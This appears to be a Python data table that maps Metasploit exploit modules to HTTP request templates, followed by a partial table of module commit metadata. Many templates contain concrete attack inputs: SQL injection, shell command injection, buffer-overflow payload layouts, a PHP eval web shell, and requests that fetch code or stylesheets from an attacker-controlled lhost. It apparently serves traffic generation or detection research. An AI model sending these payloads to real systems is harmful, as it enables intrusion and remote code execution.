E('modules/exploits/linux/http/bentoml_rce_cve_2025_27520.rb', 'BentoML', 'deserialization', 'CVE-2025-27520', 'POST', '/classify', 'body-not-logged')
E('modules/exploits/linux/http/vap2500_tools_command_exec.rb', 'Arris VAP2500', 'rce', 'CVE-2014-8423', 'POST', '/tools_command.php', 'body-not-logged')
E('modules/exploits/linux/http/cve_2019_1663_cisco_rmi_rce.rb', 'Cisco RV110W/RV130/RV215W', 'bof', 'CVE-2019-1663', 'POST', '/login.cgi', 'body-not-logged')
E('modules/exploits/windows/http/coldfusion_fckeditor.rb', 'Adobe ColdFusion', 'file-upload', 'CVE-2009-2265', 'POST', lambda c: '/CFIDE/scripts/ajax/FCKeditor/editor/filemanager/connectors/cfm/upload.cfm?Command=FileUpload&Type=File&CurrentFolder=/%s.jsp%%00' % c.au(c.rng(1, 10)), 'query')
E('modules/exploits/windows/http/pgadmin_binary_path_api.rb', 'pgAdmin 4', 'file-upload', 'CVE-2024-3116', 'POST', lambda c: '/file_manager/filemanager/%s/' % c.d(7), 'body-not-logged')
E('modules/exploits/linux/http/geutebruck_instantrec_bof.rb', 'Geutebruck IP camera', 'bof', 'CVE-2021-33549', 'POST', lambda c: '/%s.%s.%s/../uapi-cgi/instantrec.cgi' % (c.al(c.rng(5, 10)), c.al(c.rng(4, 9)), c.r.choice(['com', 'net', 'org'])), 'body-not-logged')
E('modules/auxiliary/gather/c2s_dvr_password_disclosure.rb', 'C2S DVR', 'info-disclosure', '-', 'GET', '/cgi-bin/read.cgi?page=2', 'query')
S('modules/exploits/linux/http/eclipse_che_machine_exec_rce.rb', 'not-http')
S('modules/auxiliary/scanner/http/syncovery_linux_token_cve_2022_36536.rb', 'not-exploit')
S('modules/auxiliary/gather/advantech_webaccess_creds.rb', 'login')
E('modules/exploits/unix/webapp/aerohive_netconfig_lfi_log_poison_rce.rb', 'Aerohive NetConfig', 'lfi', 'CVE-2020-16152', 'POST', '/action.php5?_action=list&debug=true', 'body-not-logged')
E('modules/exploits/windows/http/cogent_datahub_command.rb', 'Cogent DataHub', 'rce', 'CVE-2014-3789', 'POST', '/Silverlight/GetPermissions.asp', 'body-not-logged')
E('modules/exploits/windows/http/file_sharing_wizard_seh.rb', 'File Sharing Wizard', 'bof', '-', 'POST', lambda c: c.english(1040) + '\xeb\x06' + c.sc(2, '\x00\x20') + '\x7f\xa6\x38\x7c' + c.sc(381, '\x00\x20'), 'path')
E('modules/exploits/linux/http/artica_proxy_auth_bypass_service_cmds_peform_command_injection.rb', 'Artica Proxy', 'rce', 'CVE-2020-17505', 'GET', lambda c: '/cyrus.index.php?service-cmds-peform=' + c.q('||' + c.qa(c.cmd_perl()) + '||'), 'query')
E('modules/auxiliary/scanner/http/a10networks_ax_directory_traversal.rb', 'A10 Networks AX', 'lfi', 'CVE-2014-125125', 'GET', '/xml/downloads/?filename=/a10data/tmp/' + '../' * 10 + '/a10data/key/mydomain.tld', 'query')
E('modules/exploits/unix/webapp/skybluecanvas_exec.rb', 'SkyBlueCanvas', 'rce', 'CVE-2014-1683', 'POST', '/index.php?pid=4', 'body-not-logged')
E('modules/exploits/linux/http/zyxel_parse_config_rce.rb', 'Zyxel firewall (ZTP)', 'rce', 'CVE-2023-33012', 'POST', '/ztp/cgi-bin/parse_config.py', 'body-not-logged')
S('modules/exploits/multi/http/ghostcms_auth_rce_cve_2026_29053.rb', 'login')
E('modules/auxiliary/scanner/http/smt_ipmi_49152_exposure.rb', 'Supermicro IPMI', 'info-disclosure', '-', 'GET', '/PSBlock', 'path')
E('modules/auxiliary/scanner/http/allegro_rompager_misfortune_cookie.rb', 'Allegro RomPager', 'bof', 'CVE-2014-9222', 'GET', '/', 'header-not-logged')
E('modules/exploits/linux/http/control_web_panel_api_cmd_exec.rb', 'Control Web Panel', 'rce', 'CVE-2025-67888', 'GET', lambda c: '/admin/index.php?api=1&key=' + c.q('$(%s)' % c.cmd().replace(' ', '${IFS}')), 'query')
E('modules/auxiliary/scanner/http/gitlab_user_enum.rb', 'GitLab', 'info-disclosure', '-', 'GET', lambda c: '/api/v3/internal/discover?key_id=%d' % c.rng(0, 50), 'query')
E('modules/exploits/multi/http/clipbucket_fileupload_exec.rb', 'ClipBucket', 'file-upload', 'CVE-2018-7665', 'POST', '/actions/beats_uploader.php', 'body-not-logged')
E('modules/exploits/linux/http/apache_nifi_h2_rce.rb', 'Apache NiFi', 'rce', 'CVE-2023-34468', 'PUT', lambda c: '/nifi-api/controller-services/' + c.uuid(), 'body-not-logged')
S('modules/auxiliary/gather/fortios_vpnssl_traversal_creds_leak.rb', 'cve-used')
S('modules/auxiliary/gather/f5_bigip_cookie_disclosure.rb', 'not-exploit')
S('modules/auxiliary/gather/mongodb_ops_manager_diagnostic_archive_info.rb', 'login')
S('modules/auxiliary/scanner/http/jenkins_enum.rb', 'not-exploit')
S('modules/auxiliary/scanner/http/cisco_ssl_vpn.rb', 'not-exploit')
E('modules/exploits/unix/webapp/guestbook_ssi_exec.rb', "Matt Wright's guestbook.pl", 'rce', 'CVE-1999-1053', 'POST', '/cgi-bin/guestbook.pl', 'body-not-logged')
E('modules/exploits/linux/http/gravcms_exec.rb', 'Grav CMS', 'rce', 'CVE-2021-21425', 'POST', '/admin/config/scheduler', 'body-not-logged')
E('modules/exploits/unix/webapp/generic_exec.rb', 'generic CGI command injection', 'rce', '-', 'GET', lambda c: '/cgi-bin/generic?cmd=' + c.q(c.cmd()), 'query')
E('modules/exploits/windows/http/disk_pulse_enterprise_get.rb', 'Disk Pulse Enterprise', 'bof', 'CVE-2017-13696', 'GET', lambda c: (lambda p: (lambda e: '/../' + e + 'B' * (5000 - len(e)))(p + 'A' * (2492 - len(p)) + '\xeb\x06' + c.sc(2, '\x00\x0a\x0d\x26') + '\xdd\xad\x13\x10' + '\x90' * 10 + '\xe9\x25\xbf\xff\xff'))(c.sc(381, '\x00\x0a\x0d\x26')), 'path', status=400)
E('modules/exploits/linux/http/linuxki_rce.rb', 'HPE LinuxKI', 'rce', 'CVE-2020-7209', 'GET', lambda c: '/linuxki/experimental/vis/kivis.php?type=kitrace&pid=' + c.q("1;php -r '%s';" % c.php_b64()), 'query')
S('modules/auxiliary/scanner/http/joomla_plugins.rb', 'not-exploit')
S('modules/auxiliary/scanner/http/ektron_cms400net.rb', 'not-exploit')
S('modules/exploits/windows/http/ericom_access_now_bof.rb', 'oversize')
E('modules/exploits/windows/http/oracle_event_processing_upload.rb', 'Oracle Event Processing', 'file-upload', 'CVE-2014-2424', 'POST', '/wlevs/visualizer/upload', 'body-not-logged')
E('modules/auxiliary/scanner/http/axis_local_file_include.rb', 'Apache Axis2', 'lfi', '-', 'GET', '/axis2/services/Version?xsd=../conf/axis2.xml', 'query')
E('modules/auxiliary/scanner/http/wordpress_cp_calendar_sqli.rb', 'CP Multi-View Calendar (WordPress plugin)', 'sqli', 'CVE-2014-8586', 'GET', lambda c: '/?action=data_management&cpmvc_do_action=mvparse&f=edit&id=' + c.q('1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,CONCAT(0x%s,0x%s,0x%s),NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--' % (c.a(5).encode().hex(), c.a(5).encode().hex(), c.a(5).encode().hex())), 'query')
E('modules/exploits/multi/http/struts_code_exec.rb', 'Apache Struts 2', 'rce', 'CVE-2010-1870', 'GET', lambda c: (lambda a, b, cc, d: '/struts2-blank-2.0.9/example/HelloWorld.action?(%27\\u0023_memberAccess[\\%27allowStaticMethodAccess\\%27]%27)(' + a + ')=true&(aaaa)((%27\\u0023context[\\%27xwork.MethodAccessor.denyMethodExecution\\%27]\\u003d\\u0023' + cc + '%27)(\\u0023' + cc + '\\u003dnew%20java.lang.Boolean("false")))&(' + b + ')((%27\\u0023' + d + '.exec("' + c.q('tftp -i %s GET %s.exe' % (c.lhost, c.a(8))) + '")%27)(\\u0023' + d + '\\u003d@java.lang.Runtime@getRuntime()))=1')(c.al(4), c.al(2), c.al(4), c.al(4)), 'query')
S('modules/exploits/multi/http/langflow_rce_cve_2026_27966.rb', 'login')
S('modules/auxiliary/scanner/http/ollama_info.rb', 'not-exploit')
S('modules/auxiliary/gather/python_flask_cookie_signer.rb', 'not-exploit')
E('modules/auxiliary/scanner/http/elasticsearch_traversal.rb', 'Elasticsearch', 'lfi', 'CVE-2015-5531', 'GET', '_snapshot/pwn/ev1l%2f' + '..%2f' * 7 + '%2fetc%2fpasswd', 'path', status=400)
E('modules/exploits/windows/http/adobe_robohelper_authbypass.rb', 'Adobe RoboHelp Server', 'file-upload', 'CVE-2009-3068', 'POST', lambda c: '/robohelp/server?PUBLISH=%d' % c.rng(0, 19), 'body-not-logged')
S('modules/exploits/windows/http/oats_weblogic_console.rb', 'login')
E('modules/exploits/linux/http/cisco_rv340_lan.rb', 'Cisco RV34x', 'rce', 'CVE-2022-20705', 'POST', '/upload', 'body-not-logged')
E('modules/exploits/linux/http/nagios_xi_chained_rce.rb', 'Nagios XI', 'sqli', 'CVE-2018-8734', 'GET', '/nagiosxi/includes/components/nagiosim/nagiosim.php?mode=resolve&host=' + "%27AND%28SELECT%201%20FROM%28SELECT%20COUNT%28%2a%29%2cCONCAT%28%28SELECT%20backend_ticket%20FROM%20xi_users%20WHERE%20user_id%3d1%29%2cFLOOR%28RAND%280%29%2a2%29%29x%20FROM%20INFORMATION_SCHEMA.CHARACTER_SETS%20GROUP%20BY%20x%29a%29--%20", 'query')
E('modules/exploits/multi/http/gambio_unauth_rce_cve_2024_23759.rb', 'Gambio', 'deserialization', 'CVE-2024-23759', 'POST', '/shop.php?do=Parcelshopfinder/AddAddressBookEntry', 'body-not-logged')
E('modules/exploits/linux/http/ibm_drm_rce.rb', 'IBM Data Risk Manager', 'auth-bypass', 'CVE-2020-4427', 'GET', lambda c: '/albatross/saml/idpSelection?id=%s&userName=admin' % c.a(c.rng(5, 12)), 'query')
E('modules/exploits/multi/http/phoenix_exec.rb', 'Phoenix Exploit Kit panel', 'rce', '-', 'GET', lambda c: '/Phoenix/includes/geoip.php?bdr=' + c.q('eval(base64_decode("%s"));' % c.b64(c.php())), 'query')
E('modules/exploits/multi/http/wp_batch_desync_rce.rb', 'WordPress', 'sqli', 'CVE-2026-60137', 'POST', '/wp-json/batch/v1', 'body-not-logged')
S('modules/auxiliary/scanner/http/jenkins_command.rb', 'product-cap')
E('modules/exploits/windows/http/ajaxpro_deserialization_rce.rb', 'AjaxPro .NET', 'deserialization', 'CVE-2021-23758', 'POST', '/ajaxpro/AjaxPro.Services.ICartService,AjaxPro.2.ashx', 'body-not-logged')
E('modules/exploits/linux/http/dcos_marathon.rb', 'DC/OS Marathon', 'rce', 'CVE-2017-20198', 'POST', '/v2/apps', 'body-not-logged')
E('modules/exploits/windows/http/diskboss_get_bof.rb', 'DiskBoss Enterprise', 'bof', 'CVE-2025-34105', 'GET', lambda c: (lambda p: '\x90' * 21 + p + c.a(2471 - len(p)) + '\xda\x61\x04\x10' + c.a(2500))(c.sc(381, '\x00\x09\x0a\x0d\x20')), 'path')
E('modules/exploits/linux/http/cisco_ucs_rce.rb', 'Cisco UCS Director', 'auth-bypass', 'CVE-2019-1937', 'GET', '/app/ui/ClientServlet?apiName=GetUserInfo', 'header-not-logged')
E('modules/exploits/unix/webapp/trixbox_langchoice.rb', 'Trixbox', 'lfi', 'CVE-2008-6825', 'POST', '/user/index.php', 'body-not-logged')
E('modules/exploits/unix/webapp/phpbb_highlight.rb', 'phpBB', 'rce', 'CVE-2004-1315', 'GET', lambda c: '/phpBB2/viewtopic.php?t=1&highlight=%2527%252epassthru(' + '%252e'.join('chr(%d)' % ord(ch) for ch in c.cmd()) + ')%252e%2527', 'query')
S('modules/auxiliary/scanner/http/redoc_exposed.rb', 'not-exploit')
S('modules/exploits/linux/http/zimbra_unrar_cve_2022_30333.rb', 'not-http')
E('modules/exploits/unix/webapp/cacti_graphimage_exec.rb', 'Cacti', 'rce', 'CVE-2005-10004', 'GET', lambda c: '/cacti/graph_view.php?local_graph_id=%d&graph_start=' % c.rng(1, 40) + c.q('\necho YYY;%s;echo YYY;echo\n' % c.cmd()), 'query')
E('modules/exploits/windows/http/netgear_nms_rce.rb', 'NETGEAR ProSafe NMS300', 'file-upload', 'CVE-2016-1525', 'POST', '/userSession.do/../fileUpload.do?method=loginHtml&format=jsp', 'path')
E('modules/exploits/windows/http/ektron_xslt_exec_ws.rb', 'Ektron CMS', 'rce', 'CVE-2015-0923', 'POST', '/cms400min/WorkArea/ServerControlWS.asmx', 'body-not-logged')
E('modules/exploits/linux/http/centreon_useralias_exec.rb', 'Centreon', 'rce', '-', 'POST', '/centreon/index.php', 'body-not-logged')
E('modules/exploits/linux/http/linksys_themoon_exec.rb', 'Linksys E-Series', 'rce', 'CVE-2025-34037', 'POST', '/tmUnblock.cgi', 'body-not-logged')
E('modules/exploits/linux/http/artica_proxy_unauth_rce_cve_2024_2054.rb', 'Artica Proxy', 'deserialization', 'CVE-2024-2054', 'POST', '/wizard/wiz.wizard.progress.php', 'body-not-logged')
S('modules/auxiliary/scanner/http/dell_idrac.rb', 'not-exploit')
S('modules/exploits/linux/http/efw_chpasswd_exec.rb', 'login')
E('modules/auxiliary/scanner/http/hp_sitescope_getfileinternal_fileaccess.rb', 'HP SiteScope', 'lfi', '-', 'POST', '/SiteScope/services/APISiteScopeImpl', 'body-not-logged')
E('modules/exploits/multi/http/rails_dynamic_render_code_exec.rb', 'Ruby on Rails', 'lfi', 'CVE-2016-0752', 'GET', lambda c: '/users/tmp%%2fRackMultipart20261130-%d-%s' % (c.rng(900, 32000), c.al(6)), 'path')
E('modules/exploits/linux/http/zyxel_lfi_unauth_ssh_rce.rb', 'Zyxel NR7101', 'lfi', 'CVE-2023-28770', 'GET', '/Export_Log?/data/zcfg_config.json', 'query')
E('modules/exploits/windows/http/kaseya_uploader.rb', 'Kaseya VSA', 'file-upload', 'CVE-2015-6922', 'POST', lambda c: '/ConfigTab/uploader.aspx?PathData=' + c.q('C:\\Kaseya\\WebPages\\') + '&qqfile=%s.asp' % c.al(8), 'query')
E('modules/exploits/linux/http/flir_ax8_unauth_rce_cve_2022_37061.rb', 'FLIR AX8', 'rce', 'CVE-2022-37061', 'POST', '/res.php', 'body-not-logged')
E('modules/auxiliary/gather/qnap_backtrace_admin_hash.rb', 'QNAP NAS', 'info-disclosure', '-', 'GET', lambda c: '/cgi-bin/cgi.cgi?u=admin&p=' + c.q(base64.b64encode(bytes([c.r.randrange(256)]) * 3500 + bytes(c.r.randrange(256) for _ in range(4))).decode()), 'query')
E('modules/exploits/unix/webapp/google_proxystylesheet_exec.rb', 'Google Search Appliance', 'rfi', 'CVE-2005-3757', 'GET', lambda c: '/search?client=default_frontend&site=default_collection&output=xml_no_dtd&q=%s&proxystylesheet=' % c.a(c.rng(1, 15)) + c.q('http://%s:8080/%s/style.xml' % (c.lhost, c.an(c.rng(6, 12)))) + '&proxyreload=1', 'query')
E('modules/auxiliary/scanner/http/elasticsearch_memory_disclosure.rb', 'Elasticsearch', 'info-disclosure', 'CVE-2021-22145', 'POST', '/_bulk', 'body-not-logged')
S('modules/auxiliary/gather/shodan_search.rb', 'not-exploit')
E('modules/exploits/unix/webapp/base_qry_common.rb', 'BASE (Basic Analysis and Security Engine)', 'rfi', 'CVE-2006-2685', 'GET', lambda c: '/base/base_qry_common.php?BASE_path=' + c.tohex(c.include_url()), 'query')
E('modules/exploits/multi/http/web_check_screenshot_rce.rb', 'Web-Check', 'rce', 'CVE-2025-32778', 'GET', lambda c: '/api/screenshot?url=' + c.q('http://%s?%s=";%s"' % (c.r.choice(['schmeler-kuhn.biz', 'okeefe.net', 'gleason-wisoky.co', 'hartmann.info', 'bergstrom-ratke.org']), c.an(c.rng(4, 10)), c.fetch_cmd())), 'query')
E('modules/exploits/windows/http/hp_power_manager_login.rb', 'HP Power Manager', 'bof', 'CVE-2009-2685', 'POST', '/goform/formLogin', 'body-not-logged')
E('modules/exploits/windows/http/disk_pulse_enterprise_bof.rb', 'Disk Pulse Enterprise', 'bof', 'CVE-2025-34108', 'POST', '/login', 'body-not-logged')
E('modules/auxiliary/scanner/http/novell_mdm_creds.rb', 'Novell ZENworks Mobile Management', 'rce', 'CVE-2013-1081', 'HEAD', '/download.php', 'user-agent', ua=lambda c: "<?php echo(eval($_GET['%s'])); ?>" % c.a(8))
E('modules/auxiliary/scanner/http/zenworks_assetmanagement_fileaccess.rb', 'Novell ZENworks Asset Management', 'lfi', 'CVE-2012-4933', 'POST', '/rtrlet/rtr', 'body-not-logged')
E('modules/exploits/multi/http/kong_gateway_admin_api_rce.rb', 'Kong Gateway', 'rce', '-', 'POST', lambda c: '/routes/%s/plugins' % c.an(10), 'body-not-logged')
E('modules/exploits/unix/webapp/twiki_history.rb', 'TWiki', 'rce', 'CVE-2005-2877', 'GET', lambda c: '/twiki/bin/view/Main/TWikiUsers?rev=1' + c.q('`%s`#' % c.cmd()), 'query')
S('modules/exploits/windows/http/maxdb_webdbm_get_overflow.rb', 'oversize')
S('modules/exploits/windows/http/octopusdeploy_deploy.rb', 'login')
E('modules/exploits/windows/http/fdm_auth_header.rb', 'Free Download Manager', 'bof', 'CVE-2009-0183', 'GET', '/', 'header-not-logged')
E('modules/exploits/windows/http/trendmicro_officescan.rb', 'Trend Micro OfficeScan', 'bof', 'CVE-2008-1365', 'POST', '/officescan/console/cgi/cgiChkMasterPwd.exe', 'body-not-logged')
E('modules/exploits/windows/http/advantech_iview_unauth_rce.rb', 'Advantech iView', 'rce', 'CVE-2021-22652', 'POST', '/iView3/NetworkServlet', 'body-not-logged')
S('modules/exploits/linux/http/huawei_hg532n_cmdinject.rb', 'login')
S('modules/auxiliary/scanner/http/binom3_login_config_pass_dump.rb', 'not-exploit')
S('modules/exploits/linux/http/zimbra_cpio_cve_2022_41352.rb', 'not-http')
E('modules/exploits/multi/http/churchcrm_install_unauth_rce.rb', 'ChurchCRM', 'rce', 'CVE-2025-62521', 'GET', lambda c: '/?%s=' % c.a(c.rng(5, 10)) + c.q(c.printf_stager()), 'query')
E('modules/auxiliary/scanner/http/titan_ftp_admin_pwd.rb', 'Titan FTP Server', 'info-disclosure', 'CVE-2013-1625', 'POST', '/admin.dll', 'body-not-logged')
E('modules/auxiliary/scanner/http/zenworks_assetmanagement_getconfig.rb', 'Novell ZENworks Asset Management', 'info-disclosure', 'CVE-2012-4933', 'POST', '/rtrlet/rtr', 'body-not-logged')
E('modules/exploits/multi/http/oscommerce_installer_unauth_code_exec.rb', 'osCommerce', 'rce', 'CVE-2018-25114', 'POST', '/catalog/install/install.php?step=4', 'body-not-logged')
E('modules/exploits/linux/http/alienvault_exec.rb', 'AlienVault OSSIM', 'sqli', 'CVE-2016-8582', 'GET', lambda c: '/ossim/dashboard/sections/widgets/data/gauge.php?type=alarm&wtype=foo&asset=ALL_ASSETS&height=1&value=' + c.q('a:1:{s:4:"type";s:89:"1 AND extractvalue(rand(),concat(0x3a3a3a,(SELECT id FROM sessions LIMIT 1),0x3a3a3a))-- ";}'), 'query', ua='AV Report Scheduler')
E('modules/exploits/multi/http/os_cmd_exec.rb', 'generic OS command injection', 'rce', '-', 'GET', lambda c: '/ping/?cmd=' + c.q('echo %s|base64 -d|sh' % c.b64(c.cmd())), 'query')
E('modules/auxiliary/gather/ipcamera_password_disclosure.rb', 'JVC/Siemens/Vanderbilt IP camera', 'info-disclosure', '-', 'GET', '/cgi-bin/readfile.cgi?query=ADMINID', 'query')
E('modules/exploits/linux/http/ubiquiti_airos_file_upload.rb', 'Ubiquiti airOS', 'file-upload', 'CVE-2015-9266', 'POST', '/login.cgi', 'body-not-logged')
E('modules/auxiliary/scanner/http/adobe_xml_inject.rb', 'Adobe BlazeDS / LiveCycle Data Services', 'xxe', 'CVE-2009-3960', 'POST', '/flex2gateway/', 'body-not-logged')
E('modules/auxiliary/scanner/http/majordomo2_directory_traversal.rb', 'Majordomo 2', 'lfi', 'CVE-2011-0049', 'GET', '/cgi-bin/mj_wwwusr/domain=domain?user=&passw=&func=help&extra=../../../config.pl', 'query')
E('modules/exploits/windows/http/nowsms.rb', 'Now SMS/MMS Gateway', 'bof', 'CVE-2008-0871', 'GET', '/', 'header-not-logged')
E('modules/exploits/unix/webapp/drupal_restws_exec.rb', 'Drupal RESTWS', 'rce', '-', 'GET', lambda c: '/index.php?q=' + c.q('taxonomy_vocabulary//passthru/php -r \'eval(base64_decode("%s"));\'' % c.b64(c.php())), 'query')
E('modules/auxiliary/scanner/http/frontpage_credential_dump.rb', 'Microsoft FrontPage extensions', 'info-disclosure', '-', 'GET', '/_vti_pvt/service.pwd', 'path')
E('modules/exploits/windows/http/hp_power_manager_filename.rb', 'HP Power Manager', 'bof', 'CVE-2009-3999', 'POST', '/goform/formExportDataLogs', 'body-not-logged')
E('modules/exploits/multi/http/makoserver_cmd_exec.rb', 'Mako Server', 'rce', 'CVE-2025-34095', 'PUT', '/examples/save.lsp?ex=2.1', 'body-not-logged')
E('modules/exploits/multi/http/ajaxplorer_checkinstall_exec.rb', 'AjaXplorer', 'rce', 'CVE-2010-10013', 'GET', lambda c: '/AjaXplorer-2.5.5/plugins/access.ssh/checkInstall.php?destServer=' + c.q('||' + c.cmd()), 'query')
E('modules/exploits/linux/http/sourcegraph_gitserver_sshcmd.rb', 'Sourcegraph gitserver', 'rce', 'CVE-2022-23642', 'POST', '/exec', 'body-not-logged')
E('modules/exploits/linux/http/cisco_hyperflex_file_upload_rce.rb', 'Cisco HyperFlex HX', 'file-upload', 'CVE-2021-1499', 'POST', '/upload', 'body-not-logged')
E('modules/exploits/linux/http/supervisor_xmlrpc_exec.rb', 'Supervisor', 'rce', 'CVE-2017-11610', 'POST', '/RPC2', 'body-not-logged')
S('modules/exploits/multi/http/freescout_htaccess_rce.rb', 'not-http')
E('modules/exploits/unix/webapp/vicidial_user_authorization_unauth_cmd_exec.rb', 'VICIdial', 'rce', 'CVE-2025-34099', 'GET', '/vicidial/vicidial_sales_viewer.php', 'header-not-logged')
E('modules/exploits/windows/http/apache_chunked.rb', 'Apache httpd 1.3 (Win32)', 'bof', 'CVE-2002-0392', 'GET', '/', 'body-not-logged')
E('modules/exploits/multi/http/dompdf_rce_cve_2022_28368.rb', 'Dompdf', 'rce', 'CVE-2022-28368', 'GET', lambda c: '/invoice.php?pdf&html=' + c.q("<link rel=stylesheet href='http://%s:8080/%s'>" % (c.lhost, c.an(c.rng(6, 12)))), 'query')
S('modules/exploits/multi/http/totaljs_cms_widget_exec.rb', 'login')

# ----------------------------------------------------------------- module facts
# path -> (last commit that changed the file in the rapid7 history read, disclosure year, CVEs the module lists)
META = {
 'modules/auxiliary/gather/advantech_webaccess_creds.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2017', 'CVE-2016-5810'),
 'modules/auxiliary/gather/avideo_catname_sqli.rb': ('20d795d91ec80107c3fe0c02eaa49c13c6823b33', '2026', 'CVE-2026-28501'),
 'modules/auxiliary/gather/avtech744_dvr_accounts.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/gather/c2s_dvr_password_disclosure.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2016', '-'),
 'modules/auxiliary/gather/cerberus_helpdesk_hash_disclosure.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2016', '-'),
 'modules/auxiliary/gather/chrome_debugger.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2019', '-'),
 'modules/auxiliary/gather/corpwatch_lookup_name.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/gather/drupal_openid_xxe.rb': ('31ef5e03b5897a1e32f6d1425e297fde3fa5becb', '2012', 'CVE-2012-4554'),
 'modules/auxiliary/gather/emc_cta_xxe.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', 'CVE-2014-0644'),
 'modules/auxiliary/gather/f5_bigip_cookie_disclosure.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', '-'),
 'modules/auxiliary/gather/fortios_vpnssl_traversal_creds_leak.rb': ('788b9c27b49f83cc15ac8ad50b1bd3db769cc8d1', '-', '-'),
 'modules/auxiliary/gather/gitlab_tags_rss_feed_email_disclosure.rb': ('f872535c682577963ab91908294338dc46d97240', '2024', 'CVE-2023-5612'),
 'modules/auxiliary/gather/hp_snac_domain_creds.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2013', '-'),
 'modules/auxiliary/gather/ipcamera_password_disclosure.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2016', '-'),
 'modules/auxiliary/gather/joomla_com_realestatemanager_sqli.rb': ('f3b07d5a494f339c6e10d1ad9b5b5e3413537d77', '2015', '-'),
 'modules/auxiliary/gather/leakix_search.rb': ('77df1f1e87e5a43e4117bdac003b9e6f71b445c5', '-', '-'),
 'modules/auxiliary/gather/mongodb_js_inject_collection_enum.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', '-'),
 'modules/auxiliary/gather/mongodb_ops_manager_diagnostic_archive_info.rb': ('f41eda112864c6485b4007724e4ca6021a9f873a', '2023', 'CVE-2023-0342'),
 'modules/auxiliary/gather/pimcore_creds_sqli.rb': ('40ca2b3b1b849a4164ac18697295f662925cc1d0', '2018', 'CVE-2018-14058'),
 'modules/auxiliary/gather/python_flask_cookie_signer.rb': ('c1cabdf0997c0dc3655057877531ba52fa702b5c', '2019', '-'),
 'modules/auxiliary/gather/qconvergeconsole_traversal.rb': ('7b5d87a25801e2b895d2e0d4cbfa586473270b68', '2025', 'CVE-2025-6793'),
 'modules/auxiliary/gather/qnap_backtrace_admin_hash.rb': ('31ef5e03b5897a1e32f6d1425e297fde3fa5becb', '2017', '-'),
 'modules/auxiliary/gather/selenium_file_read.rb': ('3fc85e103e35d5e1621d7a1199eec0231650fe94', '2020', '-'),
 'modules/auxiliary/gather/shodan_search.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/gather/splunk_raw_server_info.rb': ('8b970af7f68e0fa60f1e58d695d1ed34e8668ae0', '2018', 'CVE-2018-11409'),
 'modules/auxiliary/gather/upsmon_traversal.rb': ('31ef5e03b5897a1e32f6d1425e297fde3fa5becb', '2022', 'CVE-2022-38120,CVE-2022-38121'),
 'modules/auxiliary/gather/vbulletin_getindexablecontent_sqli.rb': ('8beb6255cb5785961da541301f62bdfcf7acbb01', '2020', 'CVE-2020-12720'),
 'modules/auxiliary/scanner/http/a10networks_ax_directory_traversal.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2014', 'CVE-2014-125125'),
 'modules/auxiliary/scanner/http/adobe_xml_inject.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2009-3960'),
 'modules/auxiliary/scanner/http/allegro_rompager_misfortune_cookie.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', 'CVE-2014-9222'),
 'modules/auxiliary/scanner/http/apache_activemq_source_disclosure.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2010-1587'),
 'modules/auxiliary/scanner/http/atlassian_crowd_fileaccess.rb': ('d7a9964cd0b10f0da1144f3614d8e6a9609cff2a', '-', 'CVE-2012-2926'),
 'modules/auxiliary/scanner/http/axis_local_file_include.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', '-'),
 'modules/auxiliary/scanner/http/binom3_login_config_pass_dump.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2017-5162'),
 'modules/auxiliary/scanner/http/canon_wireless.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2013', 'CVE-2013-4614'),
 'modules/auxiliary/scanner/http/cisco_asa_clientless_vpn.rb': ('2242272ef4b4a32f42aeb23d37873e015a95dfdc', '-', '-'),
 'modules/auxiliary/scanner/http/cisco_ssl_vpn.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/scanner/http/citrix_netscaler_cve_2026_3055.rb': ('5882042f72529fda8774d5f45b9ad53d468b345c', '2026', 'CVE-2026-3055'),
 'modules/auxiliary/scanner/http/clansphere_traversal.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2012', 'CVE-2012-10034'),
 'modules/auxiliary/scanner/http/concrete5_member_list.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', '-'),
 'modules/auxiliary/scanner/http/dell_idrac.rb': ('11a21737bc0e43c6cea751be280bd9eddaf2b652', '-', 'CVE-1999-0502'),
 'modules/auxiliary/scanner/http/dicoogle_traversal.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2018', 'CVE-2018-25113'),
 'modules/auxiliary/scanner/http/dlink_user_agent_backdoor.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2013', '-'),
 'modules/auxiliary/scanner/http/dolibarr_16_contact_dump.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2023', 'CVE-2023-33568'),
 'modules/auxiliary/scanner/http/drupal_views_user_enum.rb': ('f3b07d5a494f339c6e10d1ad9b5b5e3413537d77', '2010', '-'),
 'modules/auxiliary/scanner/http/ektron_cms400net.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/scanner/http/elasticsearch_memory_disclosure.rb': ('3aa019470e8cce49d37a1ce32fe646e2d91169a3', '2021', 'CVE-2021-22145'),
 'modules/auxiliary/scanner/http/elasticsearch_traversal.rb': ('81f1a7c86a776ac1ab4631b784d2c0953c6218e2', '-', 'CVE-2015-5531'),
